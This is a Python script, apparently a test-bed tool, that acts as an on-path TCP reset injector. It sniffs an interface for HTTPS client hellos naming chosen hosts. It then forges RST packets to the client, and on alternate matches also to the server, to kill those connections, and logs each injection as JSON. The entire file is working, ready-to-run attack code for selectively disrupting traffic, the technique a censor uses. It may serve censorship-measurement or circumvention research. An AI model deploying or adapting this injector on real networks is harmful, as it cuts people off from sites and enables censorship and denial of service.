#!/usr/bin/env python3
"""An on-path injector: reads along, drops nothing, forges resets (IPv4).

    inject.py INTERFACE LOG READY NAME...

A hello that holds one of the names is answered with a RST+ACK to the client.
Every second one also costs the server a RST, some milliseconds later, so that
the server's true answer is on its way by then.
"""
import json
import random
import socket
import struct
import sys
import threading
import time

ETH_P_ALL = 3
RST, RST_ACK = 0x04, 0x14
SERVER_RST_AFTER = 0.012


class Segment:
    """The parts of a captured TCP segment that an injector needs."""

    def __init__(self, frame):
        ip = frame[14:]
        self.source, self.target = ip[12:16], ip[16:20]
        tcp = ip[(ip[0] & 15) * 4:struct.unpack("!H", ip[2:4])[0]]
        self.source_port, self.target_port, self.seq, self.ack = struct.unpack("!HHII", tcp[:12])
        self.payload = tcp[(tcp[12] >> 4) * 4:]


def is_tcp4(frame):
    return len(frame) >= 54 and frame[12:14] == b"\x08\x00" and frame[23] == 6


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def forge(source, source_port, target, target_port, seq, ack, flags):
    """A whole IPv4 packet; the kernel fills length and checksum of the IP header in."""
    head = struct.pack("!HHIIBBHHH", source_port, target_port, seq, ack, 5 << 4, flags, 0, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, 6, len(head))
    head = head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, random.randrange(1, 65536), 0, 57, 6, 0, source, target)
    return ip + head


class Injector:
    def __init__(self, log):
        self.log = log
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.count = 0

    def answer(self, hello):
        self.count += 1
        after_hello = (hello.seq + len(hello.payload)) & 0xFFFFFFFF
        self.send(hello, "client", hello.ack, after_hello, RST_ACK)
        if self.count % 2 == 0:
            later = threading.Timer(SERVER_RST_AFTER, self.send, (hello, "server", after_hello, 0, RST))
            later.start()

    def send(self, hello, to, seq, ack, flags):
        client, server = (hello.source, hello.source_port), (hello.target, hello.target_port)
        near, far = (client, server) if to == "client" else (server, client)
        self.raw.sendto(forge(*far, *near, seq, ack, flags), (socket.inet_ntoa(near[0]), 0))
        self.note(hello, to, seq, flags)

    def note(self, hello, to, seq, flags):
        row = {"client_ip": socket.inet_ntoa(hello.source), "client_port": hello.source_port,
               "to": to, "flags": "RA" if flags == RST_ACK else "R", "seq": seq, "time": time.time()}
        self.log.write(json.dumps(row) + "\n")
        self.log.flush()


def main():
    interface, log, ready = sys.argv[1:4]
    names = [name.encode() for name in sys.argv[4:]]
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sniffer.bind((interface, 0))
    injector = Injector(open(log, "a"))
    open(ready, "w").close()
    while True:
        frame = sniffer.recv(65535)
        if not is_tcp4(frame):
            continue
        segment = Segment(frame)
        if segment.target_port == 443 and any(name in segment.payload for name in names):
            injector.answer(segment)


main()
